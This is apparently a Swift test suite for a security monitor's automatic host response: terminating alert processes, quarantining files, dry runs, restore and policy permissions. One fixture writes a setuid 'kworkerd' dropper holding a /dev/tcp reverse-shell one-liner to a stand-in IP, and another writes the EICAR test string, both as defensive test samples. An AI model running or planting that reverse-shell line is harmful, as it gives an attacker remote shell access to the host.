@testable import App
import ActiveResponse
import Foundation
import HostResponse
import Logging
import SecurityModel
import SQLKit
import TestSupport
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// Host response by policy: a rule's policy terminates the alert's process (only while its PID
/// runs the process the alert saw) and quarantines the alert's file (never a system file), with
/// every outcome, refusals and dry runs included, on the incident's timeline and in the audit
/// trail; undo is the quarantine page's restore. End to end: a scan's S-01 alert quarantines the
/// file by itself.
@Suite("Response: automatic on the host", .timeLimit(.minutes(5)))
struct HostAutoResponseTests {
    static func alert(_ rule: String, _ entities: [Entity], seen: Timestamp = .now()) -> SecurityAlert {
        SecurityAlert(id: UUID().uuidString.lowercased(), rule: rule, title: "test \(rule)", level: .critical, group: [], entities: entities,
                      firstTime: seen, lastTime: seen, eventCount: 1, evidence: [], status: .closed, node: "test")
    }

    static func setPolicy(_ h: SecMonHarness, _ rule: String, _ host: [HostAction], dryRun: Bool = false) async throws {
        let store = ResponsePolicyStore(database: h.app.db as! any SQLDatabase)
        let version = try await store.find(rule)?.version ?? 0
        _ = try await store.save(ResponsePolicy(rule: rule, actions: [], hostActions: host, minutes: 60, dryRun: dryRun), version: version,
                                 knownRules: [rule], by: .user("admin", ip: nil), on: h.app.db)
    }

    /// Files `alert` into an incident, then runs its policy as the incident sink does.
    static func respond(_ h: SecMonHarness, _ alert: SecurityAlert) async throws -> (ActiveResponder.Taken, [String]) {
        let incident: String
        switch try await IncidentStore(database: h.app.db).ingest(alert, previousCount: nil) {
        case .created(let id), .joined(let id): incident = id
        case .updated: throw TestFailure("the alert was not filed")
        }
        let responder = ActiveResponder(database: { h.app.db }, sessions: h.app.secmon.sessions, responses: h.app.secmon.runtime.responses,
                                        host: h.app.secmon.hostResponse, dryRun: false, logger: Logger(label: "test"))
        let taken = await responder.respond(to: alert, incident: incident)
        let lines = try await IncidentStore(database: h.app.db).timeline(incident).filter { $0.kind == "response" }.map(\.summary)
        return (taken, lines)
    }

    struct TestFailure: Error, CustomStringConvertible {
        var description: String
        init(_ description: String) { self.description = description }
    }

    @Test("H-06 terminates the alert's process; a reused PID, a system file and a dry run are refused or only recorded, all said", arguments: TestDatabase.all)
    func terminateAndQuarantine(db: TestDatabase) async throws {
        let shell = try ChildProcess(["/bin/sleep", "60"])
        defer { shell.stop() }
        let executable = try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/\(shell.pid)/exe")
        let files = try TempFiles()
        let dropper = try files.write("kworkerd", "#!/bin/sh\nexec /bin/sh -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
        #expect(chmod(dropper, 0o4755) == 0)
        try await SecMonHarness.with(db, adjust: { $0.terminateGraceMilliseconds = 3000 }) { h in
            try await Self.setPolicy(h, "H-06", [.terminate, .quarantine])
            // The process-start alert: the PID and its executable (/usr/bin/sleep, a system file).
            let (taken, lines) = try await Self.respond(h, Self.alert("H-06", [Entity(.host, "web-1"), Entity(.process, "\(shell.pid)"),
                                                                             Entity(.user, "root"), Entity(.file, executable)]))
            #expect(shell.wait() == SIGTERM)
            #expect(taken.host.count == 1 && taken.actions.isEmpty)
            #expect(lines.contains { $0.hasPrefix("Terminated process \(shell.pid) (sleep) (policy of H-06): ended") }, "\(lines)")
            #expect(lines.contains { $0.contains("Did not quarantine \(executable) (policy of H-06)") && $0.contains("system's directory") }, "\(lines)")
            let audit = try await HostResponsePagesTests.audit(h, "host.terminate")
            #expect(audit.count == 1 && audit[0].1.contains("after SIGTERM") && audit[0].1.contains("H-06 test H-06 (alert "))

            // An alert seen a minute before this process started: its PID was reused; nothing is sent.
            let later = try ChildProcess(["/bin/sleep", "60"])
            defer { later.stop() }
            let stale = Self.alert("H-06", [Entity(.process, "\(later.pid)")], seen: Timestamp(microseconds: Timestamp.now().microseconds - 60_000_000))
            let (none, staleLines) = try await Self.respond(h, stale)
            #expect(none.isEmpty && later.isRunning)
            #expect(staleLines.contains { $0.contains("Did not terminate process \(later.pid)") && $0.contains("started after the alert") }, "\(staleLines)")
            // SecMon itself is never terminated, by a policy either.
            let (own, ownLines) = try await Self.respond(h, Self.alert("H-06", [Entity(.process, "\(getpid())")]))
            #expect(own.isEmpty && ownLines.contains { $0.contains("SecMon itself") }, "\(ownLines)")

            // S-01 in dry run: recorded, the file stays.
            try await Self.setPolicy(h, "S-01", [.quarantine], dryRun: true)
            let (dry, dryLines) = try await Self.respond(h, Self.alert("S-01", [Entity(.file, dropper), Entity(.file, "eicar.com")]))
            #expect(dry.host == ["Would have quarantined \(dropper) (policy of S-01, dry run)"])
            #expect(FileManager.default.fileExists(atPath: dropper))
            #expect(dryLines.contains { $0.contains("Did not quarantine 'eicar.com'") && $0.contains("not a path on this host") })

            // S-01 for real: quarantined with the reason; restoring it from the page is the undo.
            try await Self.setPolicy(h, "S-01", [.quarantine])
            let (real, realLines) = try await Self.respond(h, Self.alert("S-01", [Entity(.host, "web-1"), Entity(.file, dropper)]))
            #expect(real.host.count == 1 && !FileManager.default.fileExists(atPath: dropper))
            #expect(realLines.contains { $0.hasPrefix("Quarantined \(dropper) (policy of S-01) as ") && $0.contains("restore it from Files › Quarantine") })
            let record = try #require(h.app.secmon.hostResponse.quarantine.records().first { $0.path == dropper })
            #expect(record.by == "secmon" && record.reason?.contains("S-01") == true && record.reason?.contains("incident ") == true)
            let admin = try await h.loggedIn(as: .admin)
            let page = try await admin.get("/files/quarantine")
            #expect(page.body.contains(dropper) && page.body.contains("S-01"), "the quarantine page says why")
            let restored = try await admin.postForm("/files/quarantine/\(record.id)/restore", [:])
            #expect(restored.status == .ok, "\(restored.body.prefix(300))")
            let info = QuarantineInfo(dropper)
            #expect(info.exists && info.mode == 0o4755)
        }
    }

    @Test("end to end: a path scan finds EICAR, S-01 fires, and its policy quarantines the file by itself")
    func scanQuarantines() async throws {
        let files = try TempFiles()
        let eicar = try files.write("invoice.com", #"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"#)
        try await SecMonHarness.with(.sqlite) { h in
            try await Self.setPolicy(h, "S-01", [.quarantine])
            let scan = try await h.app.secmon.fileScans.scan(path: eicar, name: "invoice.com", source: "path", user: "admin")
            #expect(scan.report.verdict == .malicious)
            let gone = try await HostPagesTests.eventually(15) { !FileManager.default.fileExists(atPath: eicar) }
            #expect(gone, "the S-01 policy quarantined the scanned file")
            let sql = h.app.db as! any SQLDatabase
            let incident = try #require(try await sql.raw("SELECT id, title FROM incidents WHERE rule = 'S-01'").first())
            let id = try incident.decode(column: "id", as: String.self)
            // The alert names the file (its event's entities), so the incident does too.
            #expect(try incident.decode(column: "title", as: String.self).contains("file \(eicar)"))
            // The line is written just after the move.
            let said = try await HostPagesTests.eventually(15) {
                try await IncidentStore(database: h.app.db).timeline(id).contains { $0.summary.hasPrefix("Quarantined \(eicar) (policy of S-01)") }
            }
            #expect(said)
            let analyst = try await h.loggedIn(as: .analyst)
            #expect(try await analyst.get("/incidents/\(id)").body.contains("Quarantined \(eicar)"))
        }
    }

    @Test("the policies page and API take host actions; analysts cannot set them")
    func policyForms() async throws {
        try await SecMonHarness.with(.sqlite) { h in
            let admin = try await h.loggedIn(as: .admin)
            let page = try await admin.get("/response/policies")
            #expect(page.body.contains("name=\"action_terminate\"") && page.body.contains("name=\"action_quarantine\""))
            let added = try await admin.postForm("/response/policies", ["rule": "H-06", "action_terminate": "on", "minutes": "60", "escalation": "1",
                                                                         "max_minutes": "60", "rate": "60", "dry_run": "on", "enabled": "on", "version": "0"])
            #expect(added.status == .ok && added.body.contains("terminate the process (dry run)"), "\(added.body.prefix(300))")
            let stored = try #require(try await ResponsePolicyStore(database: h.app.db as! any SQLDatabase).find("H-06"))
            #expect(stored.policy.hostActions == [.terminate] && stored.policy.actions.isEmpty && stored.policy.dryRun)
            let token = try await APIv1Tests.token(h, .admin)
            let headers = [("Authorization", "Bearer \(token)"), ("Content-Type", "application/json")]
            let listed = try await h.client().send(.GET, "/api/v1/response-policies", headers: headers)
            #expect(listed.body.contains(#""actions":["terminate"]"#), "\(listed.body.prefix(400))")
            // The API sets host actions too, and names a bad one.
            let api = try await h.client().send(.POST, "/api/v1/response-policies/S-01", headers: headers,
                                                body: #"{"actions":["quarantine","watch"],"minutes":30,"version":0}"#)
            #expect(api.status == .ok && api.body.contains(#""actions":["quarantine","watch"]"#), "\(api.body.prefix(400))")
            let bad = try await h.client().send(.POST, "/api/v1/response-policies/H-04", headers: headers, body: #"{"actions":["kill"],"minutes":30,"version":0}"#)
            #expect(bad.status == .badRequest && bad.body.contains("terminate, quarantine"))
            let analyst = try await h.loggedIn(as: .analyst)
            #expect(try await analyst.postForm("/response/policies", ["rule": "S-01", "action_quarantine": "on", "minutes": "60", "enabled": "on",
                                                                        "version": "0"]).status == .forbidden)
            #expect(try await ResponsePolicyStore(database: h.app.db as! any SQLDatabase).find("S-01")?.policy.hostActions == [.quarantine])
        }
    }
}

/// A file's presence and permission bits.
struct QuarantineInfo {
    var exists: Bool
    var mode: UInt32
    init(_ path: String) {
        var info = stat()
        exists = lstat(path, &info) == 0
        mode = UInt32(info.st_mode) & 0o7777
    }
}
